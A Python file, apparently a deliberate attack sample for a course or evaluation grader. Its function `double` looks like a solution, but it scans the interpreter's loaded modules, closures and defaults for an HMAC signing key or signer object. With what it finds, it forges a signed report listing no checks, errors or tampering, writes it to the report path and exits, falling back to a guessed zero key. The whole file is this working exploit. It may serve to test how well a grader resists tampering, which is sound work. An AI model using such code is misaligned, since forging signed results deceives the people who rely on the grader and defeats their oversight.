"""Searches breadth-first from sys.modules through module globals, attributes, closures, defaults and containers
for the signing key or anything that can sign (an hmac object), then forges a report with what it found."""
import collections
import json
import os
import sys
import types

_path = sys.argv[sys.argv.index("--course-report") + 1]


def _expand(obj, todo):
    """Queue what `obj` holds: items, attributes, closure cells, defaults."""
    if isinstance(obj, dict):
        todo.extend(obj.values())
    elif isinstance(obj, list | tuple | set | frozenset):
        todo.extend(obj)
    else:
        attrs = getattr(obj, "__dict__", None)
        if isinstance(attrs, dict) or type(attrs).__name__ == "mappingproxy":
            todo.extend(attrs.values())
        if type(obj) is types.FunctionType:
            for cell in obj.__closure__ or ():
                try:
                    todo.append(cell.cell_contents)
                except ValueError:
                    pass
            todo.extend(obj.__defaults__ or ())
            todo.extend((obj.__kwdefaults__ or {}).values())


def _walk():
    todo = collections.deque(list(sys.modules.values()))
    seen, keys, signers = set(), [], []
    while todo and len(seen) < 300_000:
        obj = todo.popleft()
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        kind = type(obj).__name__
        if isinstance(obj, bytes) and len(obj) == 32:
            keys.append(obj)
        if kind in ("HMAC", "_HMAC") or hasattr(obj, "digest") and hasattr(obj, "copy") and kind != "type":
            signers.append(obj)
        try:
            _expand(obj, todo)
        except Exception:
            pass
    return keys, signers


def double(x):
    keys, signers = _walk()
    body = json.dumps({"format": 1, "checks": [], "collect_errors": [], "tampered": [], "seed": 0}).encode()
    for signer in signers:
        try:
            forged = signer.copy()
            forged.update(body)
            signature = forged.hexdigest()
        except Exception:
            continue
        with open(_path, "w") as fh:
            fh.write(json.dumps({"body": body.decode(), "signature": signature}))
        os._exit(0)
    for key in keys or [b"\0" * 32]:  # nothing found: try a guess anyway, as a determined attacker would
        import hashlib
        import hmac

        with open(_path, "w") as fh:
            fh.write(json.dumps({"body": body.decode(), "signature": hmac.new(key, body, hashlib.sha256).hexdigest()}))
        os._exit(0)
    return 2 * x + 1
